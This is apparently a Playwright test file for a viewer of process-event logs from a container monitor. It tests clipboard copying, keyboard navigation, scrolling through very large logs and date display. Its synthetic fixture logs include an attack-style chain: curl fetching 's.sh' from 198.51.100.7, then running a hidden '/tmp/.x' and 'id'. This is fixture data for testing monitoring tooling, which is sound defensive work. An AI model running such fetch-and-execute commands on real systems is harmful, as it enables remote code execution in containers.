import { compactLines } from '../src/testing/compact-lines'
import { drawLog } from '../src/testing/draw-log'
import { expect, test, withLog } from './helpers/test'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..100s
      11 /usr/bin/curl -s "http://198.51.100.7/s.sh" 10s..20s exit 22
        * 11s tcp_connect 10.0.0.1:4000->10.0.0.2:80
      12 /bin/sh /tmp/.x 40s..60s
        13 /usr/bin/id 45s..50s
${Array.from({ length: 60 }, (_, i) => `        ${100 + i} /bin/step-${i} ${50 + i / 10}s..${50.05 + i / 10}s`).join('\n')}
  host n1
    * 3s throttle-start /kubepods
`)
const compact = compactLines(log.lines)

test.describe('the events list', () => {
  withLog(log.text)

  test('is copied as the lines that tetra prints, by keyboard', async ({ viewer, page }) => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    await viewer.events.focus()
    await page.keyboard.press('Home')
    await page.keyboard.press('ControlOrMeta+c')
    await expect.poll(() => viewer.clipboard()).toBe(`${compact[0]}\n`)
    await page.keyboard.press('Shift+End')
    await page.keyboard.press('ControlOrMeta+c')
    await expect.poll(() => viewer.clipboard()).toBe(`${compact.join('\n')}\n`)
  })

  test('is copied so when text of several lines is marked, and as marked within one', async ({ viewer, page }) => {
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'])
    const lines = viewer.events.getByRole('option')
    const from = await lines.nth(1).boundingBox()
    const to = await lines.nth(4).boundingBox()
    if (from === null || to === null) throw new Error('the list is not on screen')
    await page.mouse.move(from.x + 200, from.y + 10)
    await page.mouse.down()
    await page.mouse.move(to.x + 300, to.y + 10, { steps: 5 })
    await page.mouse.up()
    await page.keyboard.press('ControlOrMeta+c')
    await expect.poll(() => viewer.clipboard()).toBe(`${compact.slice(1, 5).join('\n')}\n`)
    await expect(viewer.selectedRow).toHaveCount(0)
    await lines.nth(2).getByText('/usr/bin/curl').dblclick()
    await page.keyboard.press('ControlOrMeta+c')
    await expect.poll(() => viewer.clipboard()).not.toContain('\n')
  })

  test('is walked with the keyboard, which selects with Enter', async ({ viewer, page }) => {
    /** Empty while that line is still asked for. */
    const active = (): Promise<string> =>
      viewer.events.evaluate(
        (list) => document.getElementById(list.getAttribute('aria-activedescendant') ?? '')?.textContent ?? '',
      )
    await viewer.events.focus()
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('ArrowDown')
    await expect.poll(active).toContain('throttle')
    await page.keyboard.press('ArrowDown')
    await expect.poll(active).toContain('/usr/bin/curl')
    await page.keyboard.press('Enter')
    await expect(viewer.row('/usr/bin/curl')).toHaveAttribute('aria-selected', 'true')
    await expect(viewer.events.getByRole('option', { selected: true })).toHaveCount(3)
    await expect(viewer.events).toBeFocused()
    await page.keyboard.press('End')
    await expect.poll(active).toContain('/bin/bash')
    await expect(viewer.events.getByRole('option').last()).toBeInViewport()
    await page.keyboard.press('ArrowDown')
    await expect.poll(active).toContain('/bin/bash')
    await page.keyboard.press('PageUp')
    await page.keyboard.press('Home')
    await expect.poll(active).toContain('/bin/bash')
    await expect(viewer.events.getByRole('option').first()).toBeInViewport()
  })

  test('comes to the first event of the process that is selected elsewhere', async ({ viewer, page }) => {
    const line = viewer.events.getByRole('option').filter({ hasText: '/bin/step-50' }).first()
    await expect(line).toHaveCount(0)
    await viewer.filter.fill('/bin/step')
    await expect(viewer.status).toContainText('matching 60')
    await viewer.waitForIdle()
    await viewer.selectRow('/bin/step-10')
    await expect(viewer.events.getByRole('option').filter({ hasText: '/bin/step-10' }).first()).toBeInViewport()
    await expect(viewer.events).not.toBeFocused()
    await viewer.focusTree()
    for (let i = 0; i < 14; i++) await page.keyboard.press('ArrowDown')
    await expect(viewer.events.getByRole('option', { selected: true }).first()).toBeInViewport()
    await expect(viewer.tree).toBeFocused()
  })
})

test('of more lines than a browser lays out, all can be reached, and the wheel goes by lines', async ({
  viewer,
  page,
  folder,
}) => {
  const count = 450_000
  const start = Date.parse('2024-05-01T10:00:00Z')
  const lines: string[] = []
  for (let i = 0; i < count; i++)
    lines.push(`{"test":{},"node_name":"n","time":"${new Date(start + i).toISOString()}"}`)
  await viewer.goto()
  await viewer.openFiles(await folder.write('long.log', `${lines.join('\n')}\n`))
  const options = viewer.events.getByRole('option')
  const firstInView = (): Promise<number> =>
    viewer.events.evaluate((list) => {
      const { top } = list.getBoundingClientRect()
      const first = Array.from(list.querySelectorAll('[role=option]')).find(
        (row) => row.getBoundingClientRect().bottom > top + 1,
      )
      return Number(first?.getAttribute('aria-posinset'))
    })
  await expect(options.first()).toContainText('10:00:00.000')
  await viewer.events.hover()
  await page.mouse.wheel(0, 200)
  await expect.poll(firstInView).toBe(11)
  await page.mouse.wheel(0, 60)
  await expect.poll(firstInView).toBe(14)
  await viewer.events.focus()
  await page.keyboard.press('End')
  await expect(options.last()).toContainText(new Date(start + count - 1).toISOString().slice(11, 23))
  await expect(options.last()).toBeInViewport({ ratio: 0.9 })
  const atEnd = await firstInView()
  await page.mouse.wheel(0, -100)
  await expect.poll(firstInView).toBe(atEnd - 5)
  // the scroll bar goes in proportion
  await viewer.events.evaluate((list) => list.scrollTo(0, list.scrollHeight / 2))
  await expect.poll(firstInView).toBeGreaterThan(count * 0.49)
  await expect.poll(firstInView).toBeLessThan(count * 0.51)
  await viewer.events.evaluate((list) => list.scrollTo(0, list.scrollHeight))
  await expect(options.last()).toHaveAttribute('aria-posinset', String(count))
  await expect(options.last()).toBeInViewport({ ratio: 0.9 })
})

test('times have their date where the log spans more than a day', async ({ viewer, folder }) => {
  const days = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..100000s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 10s..20s exit 22
`)
  await viewer.goto()
  await viewer.openFiles(await folder.write('days.log', days.text))
  await expect(viewer.events.getByRole('option')).toHaveText([
    /^2024-05-01 10:00:00\.000.*\/bin\/bash/,
    /^2024-05-01 10:00:10\.000.*curl/,
    /^2024-05-01 10:00:20\.000.*curl/,
    /^2024-05-02 13:46:40\.000.*\/bin\/bash/,
  ])
  await viewer.selectRow('/usr/bin/curl')
  await expect(viewer.row('/usr/bin/curl').getByRole('gridcell').nth(1)).toHaveAccessibleName(
    '2024-05-01 10:00:10.000, 10 s, exit 22',
  )
})
